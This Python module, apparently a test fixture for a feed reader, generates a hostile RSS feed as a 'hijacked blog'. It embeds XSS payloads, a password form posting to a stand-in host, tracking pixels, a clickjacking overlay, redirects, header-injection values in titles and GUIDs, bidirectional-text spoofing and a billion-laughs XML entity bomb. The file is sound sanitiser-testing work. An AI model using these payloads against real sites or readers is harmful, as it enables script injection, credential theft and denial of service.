"""A hijacked blog: well-formed RSS 2.0 whose posts carry every trick, and an entity bomb on some days."""

from cmooc.demo.dates import rfc822_utc
from cmooc.demo.posts import Post
from cmooc.demo.shapes.shape import NEITHER, Shape, cdata, text
from cmooc.demo.typography import slug
from cmooc.demo.view import Item, View

TRICKS = (
    "<script>document.title='pris'</script><script src=\"//pieges.invalid/x.js\"></script>",
    '<img src="x" onerror="alert(1)" alt=""><p onmouseover="alert(2)" onclick=alert(3)>Survolez-moi</p>',
    '<a href="javascript:alert(4)">un lien</a> <a href="JaVa\tScRiPt:alert(5)">un autre</a> '
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg2KTwvc2NyaXB0Pg==">un troisième</a>',
    '<img src="//pisteur.invalid/pixel.gif?lecteur=1" width="1" height="1" alt="">'
    '<img src="http://pisteur.invalid/o.gif" style="display:none" alt="">',
    "<div "
    'style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;background:url(//pieges.invalid/fond.png)">'
    '<a href="//pieges.invalid/">Fermer</a></div><style>body{display:none}</style>',
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(7)"><a xlink:href="javascript:alert(8)"><text '
    'y="20">Image</text></a>'
    '<foreignObject><iframe srcdoc="&lt;script&gt;alert(9)&lt;/script&gt;"></iframe></foreignObject></svg>',
    '<form action="//pieges.invalid/vol"><input name="motdepasse" type="password"><button>Se connecter</button></form>'
    '<iframe src="//pieges.invalid/"></iframe><object data="//pieges.invalid/o.swf"></object><base '
    'href="//pieges.invalid/">',
    '<meta http-equiv="refresh" content="0;url=//pieges.invalid/"><link rel="stylesheet" href="//pieges.invalid/s.css">'
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(10)></style></mglyph></table></mtext></math>",
)
TITLES = (
    "{title}",
    "{title} <script>alert('titre')</script>",
    "{title}&#13;&#10;Bcc: tout-le-monde@pieges.invalid",
    "{title} <img src=x onerror=alert(11)>",
    "{title} \u202eetircné esruobmer\u202c",
)
BOMB = '<!DOCTYPE rss [<!ENTITY a "ha">{}]>\n'.format(
    "".join(f'<!ENTITY {after} "{f"&{before};" * 10}">' for before, after in zip("abcdefgh", "bcdefghi", strict=True))
)


def page(folder: str, post: Post) -> str:
    return f"/{folder}/{slug(post.title)}"


def render(view: View) -> bytes:
    bomb = BOMB if view.carries_bomb else ""
    boom = "&i;" if view.carries_bomb else ""
    head = (
        f'<?xml version="1.0" encoding="UTF-8"?>\n{bomb}<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"'
        f' xmlns:dc="http://purl.org/dc/elements/1.1/">\n<channel>\n<title>{text(view.source.title)}{boom}</title>\n'
        f"<link>{view.home_url}</link>\n<description>&lt;script&gt;alert(0)&lt;/script&gt;</description>\n"
    )
    return (head + "".join(_item(view, item) for item in view.items) + "</channel>\n</rss>\n").encode()


def _item(view: View, item: Item) -> str:
    title = TITLES[item.order % len(TITLES)].format(title=item.title)
    escaped = text(title).replace("&amp;#13;&amp;#10;", "&#13;&#10;")
    trick = TRICKS[item.order % len(TRICKS)]
    categories = "".join(
        f"<category>{text(name)}</category>\n" for name in (*item.categories, '"><script>alert(12)</script>')
    )
    return (
        f"<item>\n<title>{escaped}</title>\n<link>{item.url}</link>\n"
        f'<guid isPermaLink="false">{item.key[:20]}&#10;X-Piege: 1</guid>\n'
        f"<pubDate>{rfc822_utc(item.published_at or item.updated_at)}</pubDate>\n{categories}"
        f"<dc:creator>{text(view.author.name + '<b onmouseover=alert(13)>')}</dc:creator>\n"
        f'<enclosure url="javascript:alert(14)" type="audio/mpeg" length="-1"/>\n'
        f"<content:encoded>{cdata(item.html + trick)}</content:encoded>\n</item>\n"
    )


SHAPE = Shape(
    "hostile",
    15,
    "application/rss+xml",
    NEITHER,
    home=lambda folder: f"/{folder}/",
    feed=lambda folder: f"/{folder}/feed.xml",
    page=page,
    render=render,
)
